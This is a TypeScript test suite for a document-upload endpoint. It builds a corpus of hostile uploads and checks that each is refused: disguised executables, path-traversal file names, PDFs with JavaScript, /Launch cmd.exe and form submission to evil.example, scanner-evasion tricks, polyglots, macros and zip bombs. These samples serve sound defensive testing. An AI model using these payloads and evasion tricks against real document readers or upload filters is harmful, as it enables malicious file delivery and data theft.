import zlib from 'node:zlib';

import { DocumentAnswers, UploadProblems } from '@cti/contracts';

import { admin, as, outboxTypes, startDocuments, storedObjects, type DocumentsTestBed } from '../support/documents-kit';
import {
  fileUpload,
  multipart,
  pdfOf,
  sampleDoc,
  sampleDocWith,
  sampleDocx,
  samplePdf,
  sampleExe,
  streamObject,
  zipOf,
  type MultipartPart,
} from '../support/sample-files';

const LIMIT = 64 * 1024;
/** What a package may expand to in these tests: 1 MB. */
const EXPANDED_LIMIT = 1024 * 1024;
let bed: DocumentsTestBed;

beforeAll(async () => {
  bed = await startDocuments({ UPLOAD_MAX_BYTES: String(LIMIT), UPLOAD_MAX_EXPANDED_BYTES: String(EXPANDED_LIMIT) });
});
afterAll(() => bed.close());

const post = (body: { payload: Buffer; headers: Record<string, string> }, headers = admin(), url = '/api/document') =>
  bed.app.inject({ method: 'POST', url, headers: { ...headers, ...body.headers }, payload: body.payload });

interface BadUpload {
  name: string;
  body: () => { payload: Buffer; headers: Record<string, string> };
  status: number;
  reason: string;
}

const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(600)]);
const html = Buffer.from('<html><body><script>alert(1)</script></body></html>');
const twoFiles = (): MultipartPart[] => [
  { name: 'file', file: { fileName: 'a.pdf', contentType: 'application/pdf', data: samplePdf() } },
  { name: 'file', file: { fileName: 'b.pdf', contentType: 'application/pdf', data: samplePdf() } },
];

const pdf = (name: string, data: Buffer) => fileUpload(name, data, 'application/pdf');
const WORD_MAIN = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
/** An OLE "Package" object as Word stores it: the stream name `\x01Ole10Native` around a packaged file. */
const packagedProgram = Buffer.concat([Buffer.from('\u0001Ole10Native', 'utf16le'), Buffer.from('setup.exe\u0000', 'latin1'), sampleExe()]);
/** The objects of an object stream: one script action. */
const SCRIPT_OBJECT = '5 0 << /S /JavaScript /JS (app.alert(1)) >>';
/** The relationships of a Word document importing `target` as an alternative format chunk (altChunk). */
const ALT_CHUNK_RELS = (target: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="${target}"/></Relationships>`;
/** 2 MB of zeros: deflates to a few kilobytes. */
const zeros = Buffer.alloc(2 * 1024 * 1024);

const CORPUS: BadUpload[] = [
  {
    name: 'a Windows executable renamed .pdf',
    body: () => fileUpload('invoice.pdf', sampleExe(), 'application/pdf'),
    status: 400,
    reason: UploadProblems.content,
  },
  { name: 'an ELF binary renamed .docx', body: () => fileUpload('report.docx', elf), status: 400, reason: UploadProblems.content },
  {
    name: 'an executable under its own name',
    body: () => fileUpload('setup.exe', sampleExe(), 'application/x-msdownload'),
    status: 400,
    reason: UploadProblems.extension,
  },
  {
    name: 'a plain zip renamed .docx',
    body: () => fileUpload('archive.docx', zipOf({ 'readme.txt': 'hello', 'data/x.bin': Buffer.alloc(100) })),
    status: 400,
    reason: UploadProblems.content,
  },
  {
    name: 'a zip whose content types name a Word document it does not contain',
    body: () =>
      fileUpload(
        'hollow.docx',
        zipOf({
          '[Content_Types].xml':
            '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        }),
      ),
    status: 400,
    reason: UploadProblems.content,
  },
  {
    name: 'a macro-enabled Word package renamed .docx',
    body: () => fileUpload('macros.docx', sampleDocx('application/vnd.ms-word.document.macroEnabled.main+xml')),
    status: 400,
    reason: UploadProblems.content,
  },
  {
    name: 'a .docx renamed .pdf',
    body: () => fileUpload('swapped.pdf', sampleDocx(), 'application/pdf'),
    status: 400,
    reason: UploadProblems.content,
  },
  {
    name: 'an HTML page renamed .doc',
    body: () => fileUpload('page.doc', html, 'application/msword'),
    status: 400,
    reason: UploadProblems.content,
  },
  {
    name: 'a truncated PDF (no %%EOF)',
    body: () => fileUpload('cut.pdf', samplePdf().subarray(0, 120), 'application/pdf'),
    status: 400,
    reason: UploadProblems.content,
  },
  {
    name: 'an empty file',
    body: () => fileUpload('empty.pdf', Buffer.alloc(0), 'application/pdf'),
    status: 400,
    reason: UploadProblems.empty,
  },
  {
    name: 'a file over the size limit',
    body: () => fileUpload('huge.pdf', Buffer.concat([samplePdf(), Buffer.alloc(LIMIT)]), 'application/pdf'),
    status: 413,
    reason: UploadProblems.tooLarge(0.1),
  },
  {
    name: 'a ../ name',
    body: () => fileUpload('../../etc/cron.d/evil.pdf', samplePdf(), 'application/pdf'),
    status: 400,
    reason: UploadProblems.name,
  },
  {
    name: 'a ..\\ name',
    body: () => fileUpload('..\\..\\windows\\evil.pdf', samplePdf(), 'application/pdf'),
    status: 400,
    reason: UploadProblems.name,
  },
  { name: 'a name of dots only', body: () => fileUpload('..', samplePdf(), 'application/pdf'), status: 400, reason: UploadProblems.name },
  {
    name: 'a real PDF sent with a lying Content-Type',
    body: () => fileUpload('real.pdf', samplePdf(), 'text/html'),
    status: 400,
    reason: UploadProblems.content,
  },
  {
    name: 'a real PDF declared as an executable',
    body: () => fileUpload('real.pdf', samplePdf(), 'application/x-msdownload'),
    status: 400,
    reason: UploadProblems.content,
  },
  {
    name: 'a request without the file field',
    body: () => multipart([{ name: 'title', value: 'no file' }]),
    status: 400,
    reason: UploadProblems.missing,
  },
  {
    name: 'a file in another field',
    body: () => multipart([{ name: 'attachment', file: { fileName: 'a.pdf', contentType: 'application/pdf', data: samplePdf() } }]),
    status: 400,
    reason: UploadProblems.missing,
  },
  { name: 'two files at once', body: () => multipart(twoFiles()), status: 400, reason: 'Send one file at a time.' },
  // code that runs when the PDF is opened
  {
    name: 'a PDF whose open action runs JavaScript',
    body: () => pdf('open.pdf', pdfOf([], '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')),
    status: 400,
    reason: UploadProblems.activeContent,
  },
  {
    name: 'a PDF whose open action points at a script object',
    body: () =>
      pdf(
        'indirect.pdf',
        pdfOf(['<< /S /JavaScript /JS 5 0 R >>', streamObject('', 'app.launchURL("https://x.example")')], '/OpenAction 4 0 R'),
      ),
    status: 400,
    reason: UploadProblems.activeContent,
  },
  {
    name: 'a PDF hiding /JS behind #-escaped names',
    body: () => pdf('escaped.pdf', pdfOf(['<< /Type /Annot /AA << /O << /S /Java#53cript /J#53 (x) >> >> >>'])),
    status: 400,
    reason: UploadProblems.activeContent,
  },
  {
    name: 'a PDF with a /Launch action',
    body: () => pdf('launch.pdf', pdfOf(['<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'], '/OpenAction 4 0 R')),
    status: 400,
    reason: UploadProblems.activeContent,
  },
  {
    name: 'a PDF hiding a script in a compressed object stream',
    body: () =>
      pdf(
        'objstm.pdf',
        pdfOf([streamObject('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', '5 0 << /S /JavaScript /JS (app.alert(1)) >>')]),
      ),
    status: 400,
    reason: UploadProblems.activeContent,
  },
  {
    name: 'a PDF hiding objects under a filter that cannot be checked',
    body: () => pdf('lzw.pdf', pdfOf([streamObject('/Type /ObjStm /N 1 /First 5 /Filter /LZWDecode', 'opaque bytes')])),
    status: 400,
    reason: UploadProblems.uncheckable,
  },
  {
    name: 'a PDF whose object stream cannot be read (encrypted)',
    body: () =>
      pdf(
        'encrypted.pdf',
        pdfOf([
          Buffer.concat([
            Buffer.from('<</Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length 64>>\nstream\n', 'latin1'),
            Buffer.alloc(64, 0xa7),
            Buffer.from('\nendstream', 'latin1'),
          ]),
        ]),
      ),
    status: 400,
    reason: UploadProblems.uncheckable,
  },
  // object streams dressed so that a naive reading does not see them, though PDF readers do
  {
    name: 'a script in an object stream whose names are #-escaped (/Obj#53tm, /Fl#61teDecode)',
    body: () =>
      pdf(
        'escaped-objstm.pdf',
        pdfOf([streamObject('/Ty#70e /Obj#53tm /N 1 /First 5 /F#69lter /Fl#61teDecode', SCRIPT_OBJECT, { deflate: true })]),
      ),
    status: 400,
    reason: UploadProblems.activeContent,
  },
  {
    name: 'a script in an object stream without /Type (readers find it through the cross-reference)',
    body: () => pdf('untyped-objstm.pdf', pdfOf([streamObject('/N 1 /First 5 /Filter /FlateDecode', SCRIPT_OBJECT)])),
    status: 400,
    reason: UploadProblems.activeContent,
  },
  {
    name: 'a script in an object stream whose dictionary holds the word "obj"',
    body: () =>
      pdf('decoy-objstm.pdf', pdfOf([streamObject('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Note (obj)', SCRIPT_OBJECT)])),
    status: 400,
    reason: UploadProblems.activeContent,
  },
  {
    name: 'a script in an object stream opened by a lone carriage return',
    body: () =>
      pdf('cr-objstm.pdf', pdfOf([streamObject('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', SCRIPT_OBJECT, { eol: '\r' })])),
    status: 400,
    reason: UploadProblems.activeContent,
  },
  {
    name: 'a script in an object stream with text after the stream keyword',
    body: () =>
      pdf('spaced-objstm.pdf', pdfOf([streamObject('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', SCRIPT_OBJECT, { eol: '  \r\n' })])),
    status: 400,
    reason: UploadProblems.activeContent,
  },
  {
    name: 'a script in an object stream never closed by endstream',
    body: () =>
      pdf(
        'open-objstm.pdf',
        pdfOf([streamObject('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', SCRIPT_OBJECT, { endstream: false })]),
      ),
    status: 400,
    reason: UploadProblems.activeContent,
  },
  {
    name: 'an object stream whose compressed bytes contain the endstream keyword',
    body: () => {
      // stored (level 0) deflate keeps the keyword in the clear: the stream seems to end inside its data
      const data = zlib.deflateSync(Buffer.from('(endstream) 5 0 << /Type /Annot >>', 'latin1'), { level: 0 });
      return pdf(
        'cut-objstm.pdf',
        pdfOf([
          Buffer.concat([
            Buffer.from(`<</Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length ${data.length}>>\nstream\n`, 'latin1'),
            data,
            Buffer.from('\nendstream', 'latin1'),
          ]),
        ]),
      );
    },
    status: 400,
    reason: UploadProblems.uncheckable,
  },
  {
    name: 'a compressed object stream that expands past the limit',
    body: () => pdf('bomb.pdf', pdfOf([streamObject('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', ' '.repeat(2 * EXPANDED_LIMIT))])),
    status: 400,
    reason: UploadProblems.expandsTooMuch(1),
  },
  // links to scripts, forms sent away, other files, rich media and attachments
  {
    name: 'a PDF with a link action to javascript:',
    body: () => pdf('uri-js.pdf', pdfOf(['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (javascript:app.alert(1)) >> >>'])),
    status: 400,
    reason: UploadProblems.scriptLink,
  },
  {
    name: 'a PDF whose javascript: link is hex-encoded, escaped and disguised (case, spaces, a tab)',
    body: () =>
      pdf(
        'uri-hidden.pdf',
        pdfOf([
          `<< /S /URI /URI <${Buffer.from('  JavaScript:alert(1)', 'latin1').toString('hex')}> >>`,
          '<< /S /U#52I /U#52I (\\040jav\\141\tscript:alert\\(1\\)) >>',
        ]),
      ),
    status: 400,
    reason: UploadProblems.scriptLink,
  },
  {
    name: 'a PDF whose link reaches its javascript: target through another object (/URI 5 0 R)',
    body: () => pdf('uri-indirect.pdf', pdfOf(['<< /S /URI /URI 5 0 R >>', '(vbscript:msgbox)'], '/OpenAction 4 0 R')),
    status: 400,
    reason: UploadProblems.scriptLink,
  },
  {
    name: 'a PDF hiding a javascript: link in a compressed object stream',
    body: () =>
      pdf(
        'uri-objstm.pdf',
        pdfOf([streamObject('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', '5 0 << /S /URI /URI (javascript:x) >>')]),
      ),
    status: 400,
    reason: UploadProblems.scriptLink,
  },
  {
    name: 'a PDF hiding a javascript: target string as an object of a compressed object stream',
    body: () =>
      pdf(
        'uri-objstm-string.pdf',
        pdfOf(['<< /S /URI /URI 6 0 R >>', streamObject('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', '6 0 (javascript:x)')]),
      ),
    status: 400,
    reason: UploadProblems.scriptLink,
  },
  {
    name: 'a PDF with a link to a file on the reader’s computer (file:)',
    body: () => pdf('uri-file.pdf', pdfOf(['<< /S /URI /URI (file://attacker.example/share/x.exe) >>'])),
    status: 400,
    reason: UploadProblems.scriptLink,
  },
  {
    name: 'a PDF form that submits its fields to an outside address (/SubmitForm)',
    body: () =>
      pdf(
        'submit.pdf',
        pdfOf(['<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/c) >> >> >>']),
      ),
    status: 400,
    reason: UploadProblems.formSubmission,
  },
  {
    name: 'a PDF that opens another file (/GoToR)',
    body: () => pdf('gotor.pdf', pdfOf(['<< /S /GoToR /F (//evil.example/share/x.pdf) /D [0 /Fit] >>'], '/OpenAction 4 0 R')),
    status: 400,
    reason: UploadProblems.remoteFile,
  },
  {
    name: 'a PDF with rich media (/RichMedia)',
    body: () => pdf('flash.pdf', pdfOf(['<< /Type /Annot /Subtype /RichMedia /RichMediaContent 5 0 R >>'])),
    status: 400,
    reason: UploadProblems.richMedia,
  },
  {
    name: 'a PDF with an embedded file (/EmbeddedFiles, /EmbeddedFile)',
    body: () =>
      pdf(
        'attached.pdf',
        pdfOf(
          [
            '<< /Names [(notes.txt) 5 0 R] >>',
            '<< /Type /Filespec /F (notes.txt) /EF << /F 6 0 R >> >>',
            streamObject('/Type /EmbeddedFile', 'hello'),
          ],
          '/Names << /EmbeddedFiles 4 0 R >>',
        ),
      ),
    status: 400,
    reason: UploadProblems.embeddedFile,
  },
  {
    name: 'a PDF with a file attachment annotation',
    body: () => pdf('annot-file.pdf', pdfOf(['<< /Type /Annot /Subt#79pe /FileAtt#61chment /FS 5 0 R >>'])),
    status: 400,
    reason: UploadProblems.embeddedFile,
  },
  {
    name: 'a PDF carrying a Windows executable (MZ) in a stream of its own',
    body: () =>
      pdf(
        'carrier.pdf',
        pdfOf([Buffer.concat([Buffer.from('<< /Length 1024 >>\nstream\n', 'latin1'), sampleExe(), Buffer.from('\nendstream', 'latin1')])]),
      ),
    status: 400,
    reason: UploadProblems.embeddedProgram,
  },
  // Word packages that carry a web page or a document for Word to import
  {
    name: 'a .docx with an HTML altChunk part (afchunk.mht)',
    body: () =>
      fileUpload(
        'chunk.docx',
        sampleDocx(WORD_MAIN, {
          'word/afchunk.mht': 'MIME-Version: 1.0\r\n\r\n<html><script>alert(1)</script></html>',
          'word/_rels/document.xml.rels': ALT_CHUNK_RELS('afchunk.mht'),
        }),
      ),
    status: 400,
    reason: UploadProblems.htmlPart,
  },
  {
    name: 'a .docx importing an innocently named part through an altChunk relationship',
    body: () =>
      fileUpload(
        'disguised-chunk.docx',
        sampleDocx(WORD_MAIN, {
          'word/chunk1.bin': '<html><body>x</body></html>',
          'word/_rels/document.xml.rels': ALT_CHUNK_RELS('chunk1.bin'),
        }),
      ),
    status: 400,
    reason: UploadProblems.htmlPart,
  },
  {
    name: 'a .docx declaring a part as a web page (text/html)',
    body: () =>
      fileUpload(
        'declared.docx',
        sampleDocx(WORD_MAIN, {
          '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${WORD_MAIN}"/><Override PartName="/word/page.dat" ContentType="text/html"/></Types>`,
          'word/page.dat': '<html></html>',
        }),
      ),
    status: 400,
    reason: UploadProblems.htmlPart,
  },
  {
    name: 'an .xlsx with an HTML part (spreadsheets are not accepted)',
    body: () => fileUpload('sheet.xlsx', zipOf({ '[Content_Types].xml': '<Types/>', 'xl/page.htm': '<html></html>' })),
    status: 400,
    reason: UploadProblems.extension,
  },
  // a PDF that is also a web page
  {
    name: 'an HTML/PDF polyglot (a page in a PDF comment)',
    body: () =>
      pdf(
        'polyglot.pdf',
        Buffer.from(
          samplePdf()
            .toString('latin1')
            .replace('%PDF-1.4\n', '%PDF-1.4\n%<html><body><script>alert(document.domain)</script></body></html>\n'),
          'latin1',
        ),
      ),
    status: 400,
    reason: UploadProblems.polyglot,
  },
  {
    name: 'an HTML/PDF polyglot (markup between objects)',
    body: () => pdf('between.pdf', pdfOf(['(x)', '<!DOCTYPE html><iframe src="https://evil.example"></iframe>'])),
    status: 400,
    reason: UploadProblems.polyglot,
  },
  // Word files carrying programs
  {
    name: 'a .doc carrying a Windows program',
    body: () => fileUpload('memo.doc', sampleDocWith(sampleExe()), 'application/msword'),
    status: 400,
    reason: UploadProblems.embeddedProgram,
  },
  {
    name: 'a .doc carrying an OLE package object',
    body: () => fileUpload('package.doc', sampleDocWith(packagedProgram), 'application/msword'),
    status: 400,
    reason: UploadProblems.embeddedProgram,
  },
  {
    name: 'a .docx with a program among its parts',
    body: () => fileUpload('parts.docx', sampleDocx(WORD_MAIN, { 'word/embeddings/setup.exe': sampleExe() })),
    status: 400,
    reason: UploadProblems.embeddedProgram,
  },
  {
    name: 'a .docx embedding an OLE package object',
    body: () => fileUpload('ole.docx', sampleDocx(WORD_MAIN, { 'word/embeddings/oleObject1.bin': packagedProgram })),
    status: 400,
    reason: UploadProblems.embeddedProgram,
  },
  {
    name: 'a .docx carrying macros',
    body: () => fileUpload('vba.docx', sampleDocx(WORD_MAIN, { 'word/vbaProject.bin': Buffer.alloc(64) })),
    status: 400,
    reason: UploadProblems.embeddedProgram,
  },
  // zip bombs
  {
    name: 'a .docx that expands past the limit (a zip bomb)',
    body: () => fileUpload('bomb.docx', sampleDocx(WORD_MAIN, { 'word/media/zeros.bin': zeros }, { deflate: true })),
    status: 400,
    reason: UploadProblems.expandsTooMuch(1),
  },
  {
    name: 'a .docx whose headers hide how far it expands',
    body: () =>
      fileUpload(
        'liar.docx',
        sampleDocx(
          WORD_MAIN,
          { 'word/media/zeros.bin': zeros },
          { deflate: true, declaredSize: (name, real) => (name.endsWith('.bin') ? 1000 : real) },
        ),
      ),
    status: 400,
    reason: UploadProblems.content,
  },
  // names that hide their real extension
  {
    name: 'a program whose name is reversed by a bidi override ("invoice‮fdp.exe" shows as "invoiceexe.pdf")',
    body: () => fileUpload('invoice\u202Efdp.exe', sampleExe(), 'application/pdf'),
    status: 400,
    reason: UploadProblems.extension,
  },
  // broken forms
  {
    name: 'a multipart body without its boundary',
    body: () => ({ payload: Buffer.from('--x\r\nbroken'), headers: { 'content-type': 'multipart/form-data' } }),
    status: 400,
    reason: UploadProblems.malformed,
  },
  {
    name: 'a multipart body cut short',
    body: () => {
      const whole = fileUpload('cut.pdf', samplePdf(), 'application/pdf');
      return { payload: whole.payload.subarray(0, whole.payload.length - 40), headers: whole.headers };
    },
    status: 400,
    reason: UploadProblems.malformed,
  },
  {
    name: 'a body that is not multipart',
    body: () => ({ payload: samplePdf(), headers: { 'content-type': 'application/pdf' } }),
    status: 400,
    reason: UploadProblems.missing,
  },
];

describe('the bad-upload corpus', () => {
  it.each(CORPUS.map((c) => [c.name, c] as const))('refuses %s with a clear error and stores nothing', async (_name, bad) => {
    const res = await post(bad.body());
    expect(res.statusCode).toBe(bad.status);
    expect(res.json()).toMatchObject({ message: DocumentAnswers.notUploaded, reason: bad.reason });
    expect(storedObjects(bed.storageDir)).toEqual([]);
    expect(await bed.app.db.selectFrom('files').selectAll().execute()).toEqual([]);
    expect(await outboxTypes(bed.app)).not.toContain('evt.documents.file.uploaded');
  });

  it('refuses the same corpus on the ACID upload', async () => {
    for (const bad of CORPUS.filter((c) => c.status === 400)) {
      const res = await post(bad.body(), admin(), '/api/acid/upload');
      expect(res.statusCode).toBe(400);
      expect(res.json().reason).toBe(bad.reason);
    }
    expect(storedObjects(bed.storageDir)).toEqual([]);
    expect(await bed.app.db.selectFrom('documents').selectAll().execute()).toEqual([]);
  });
});

describe('good uploads', () => {
  it.each([
    ['a PDF', 'Annual report.pdf', samplePdf(), 'application/pdf', 'pdf'],
    ['a Word 97 document', 'Legacy memo.doc', sampleDoc(), 'application/msword', 'doc'],
    ['a Word package', 'Opinion.docx', sampleDocx(), 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'docx'],
    ['a PDF the browser did not type', 'untyped.PDF', samplePdf(), 'application/octet-stream', 'pdf'],
    [
      'a PDF that prints the words JavaScript and <html> on its page',
      'About scripts.pdf',
      pdfOf([
        streamObject('/Filter /FlateDecode', 'BT /F1 12 Tf (/JavaScript and /Launch and <html>) Tj ET'),
        streamObject('', '(/JS) Tj'),
      ]),
      'application/pdf',
      'pdf',
    ],
    [
      'a PDF with a web link, and a string object that starts with "Data:"',
      'Linked.pdf',
      pdfOf(['<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.example.org/cape-town) >> >>', '(Data: 2026 Q1)']),
      'application/pdf',
      'pdf',
    ],
    [
      'a PDF whose open action only goes to its first page',
      'Opens at page 1.pdf',
      pdfOf([], '/OpenAction [3 0 R /Fit]'),
      'application/pdf',
      'pdf',
    ],
    [
      'a Word package with an image and an embedded chart',
      'With chart.docx',
      sampleDocx(
        WORD_MAIN,
        { 'word/media/image1.png': Buffer.alloc(4096, 7), 'word/embeddings/oleObject1.bin': sampleDoc() },
        { deflate: true },
      ),
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      'docx',
    ],
  ])('stores %s under a generated name and answers that name', async (_kind, fileName, data, type, ext) => {
    const res = await post(fileUpload(fileName, data, type));
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/plain/);
    const s3Name = res.body;
    expect(s3Name).toMatch(new RegExp(`^[0-9a-f-]{36}\\.${ext}$`));
    expect(storedObjects(bed.storageDir)).toContain(s3Name);
    const row = await bed.app.db.selectFrom('files').selectAll().where('s3Name', '=', s3Name).executeTakeFirstOrThrow();
    expect(row).toMatchObject({ fileName, sizeBytes: data.length, purpose: 'document', attached: false });
  });

  it('strips control and bidirectional characters from the stored name', async () => {
    const res = await post(fileUpload('Re\u202Eport\u200B\u0007 2026\u2066.pdf', samplePdf(), 'application/pdf'));
    expect(res.statusCode).toBe(200);
    const row = await bed.app.db.selectFrom('files').selectAll().where('s3Name', '=', res.body).executeTakeFirstOrThrow();
    expect(row.fileName).toBe('Report 2026.pdf');
  });

  it('records what each upload is for (?type=1 and 2 are annotations)', async () => {
    for (const [type, purpose] of [
      ['1', 'annotation1'],
      ['2', 'annotation2'],
    ]) {
      const res = await post(fileUpload('notes.pdf', samplePdf(), 'application/pdf'), admin(), `/api/document?type=${type}`);
      const row = await bed.app.db.selectFrom('files').selectAll().where('s3Name', '=', res.body).executeTakeFirstOrThrow();
      expect(row.purpose).toBe(purpose);
    }
    expect(await outboxTypes(bed.app)).toContain('evt.documents.file.uploaded');
  });

  it('is for admins only', async () => {
    const body = fileUpload('a.pdf', samplePdf(), 'application/pdf');
    expect((await post(body, as(['Enhanced']))).statusCode).toBe(403);
    expect((await bed.app.inject({ method: 'POST', url: '/api/document', headers: body.headers, payload: body.payload })).statusCode).toBe(
      401,
    );
  });
});
